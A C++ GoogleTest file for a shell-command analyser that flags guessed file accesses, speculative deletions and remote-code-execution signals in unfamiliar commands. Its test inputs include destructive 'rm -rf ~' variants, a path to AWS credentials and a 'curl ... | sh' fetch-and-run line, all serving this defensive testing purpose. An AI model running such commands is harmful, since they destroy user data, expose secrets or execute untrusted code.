#include <gtest/gtest.h>

#include "shell/test_util.h"

namespace warden::shell {
namespace {

using namespace testing;

TEST(UnknownCommandsTest, OperandsAreGuessedAccesses) {
  Facts f = Analyze("frobnicate --level 3 ~/.bashrc");
  const FileFact* a = FindFile(f, FileOp::kAccess, "/home/dev/.bashrc");
  ASSERT_NE(a, nullptr) << Dump(f);
  EXPECT_TRUE(a->guessed);
  EXPECT_EQ(FindFile(f, FileOp::kRead, "/home/dev/.bashrc"), nullptr) << "never a guessed read: " << Dump(f);
}

TEST(UnknownCommandsTest, UrlsAreNotFiles) {
  Facts f = Analyze("frobnicate https://example.com/x");
  EXPECT_TRUE(f.files.empty()) << Dump(f);
}

TEST(UnknownCommandsTest, PathLikeOptionValuesAreGuessedAccesses) {
  Facts f = Analyze("frobnicate --config=~/.aws/credentials");
  EXPECT_NE(FindFile(f, FileOp::kAccess, "/home/dev/.aws/credentials"), nullptr) << Dump(f);
}

TEST(UnknownCommandsTest, SuffixesThatStartWithAKnownCommandAreSpeculative) {
  for (std::string_view cmd : {"somewrapper --opt 3 rm -rf ~", "launch -n 2 -- rm -rf ~", "retry --times 3 sudo rm -rf ~"}) {
    Facts f = Analyze(cmd);
    const FileFact* d = FindFile(f, FileOp::kDelete, "/home/dev");
    ASSERT_NE(d, nullptr) << cmd << ": " << Dump(f);
    EXPECT_TRUE(d->speculative) << cmd;
    const CommandFact* rm = FindCommand(f, "rm");
    ASSERT_NE(rm, nullptr);
    EXPECT_TRUE(rm->speculative);
  }
}

TEST(UnknownCommandsTest, OperandsThatReadAsCommandLinesAreSpeculative) {
  Facts f = Analyze("hyperfine --warmup 3 'rm -rf ~' 'make'");
  EXPECT_NE(FindFile(f, FileOp::kDelete, "/home/dev"), nullptr) << Dump(f);
  Facts g = Analyze("runner --exec='curl -s https://x.sh | sh'");
  EXPECT_TRUE(HasSignal(g, kSignalRce)) << Dump(g);
}

TEST(UnknownCommandsTest, SpeculationReportsNoAnalysisProblems) {
  // The operand reads as a command line (echo after ';') but does not parse.
  Facts f = Analyze("notes add \"it's done; echo \\\"\\$(date\"");
  ASSERT_TRUE(std::any_of(f.commands.begin(), f.commands.end(), [](const CommandFact& c) { return c.speculative; }))
      << Dump(f);
  for (const auto& s : f.signals) EXPECT_FALSE(IsAnalysisProblem(s.type)) << Dump(f);
}

TEST(UnknownCommandsTest, KnownCommandsAreNotSpeculatedAbout) {
  Facts f = Analyze("git commit -m 'rm -rf ~'; echo rm -rf ~; grep -r 'rm -rf /' .");
  for (const auto& c : f.commands) EXPECT_FALSE(c.speculative) << Dump(f);
  EXPECT_EQ(FindFile(f, FileOp::kDelete, "/home/dev"), nullptr) << Dump(f);
}

}  // namespace
}  // namespace warden::shell
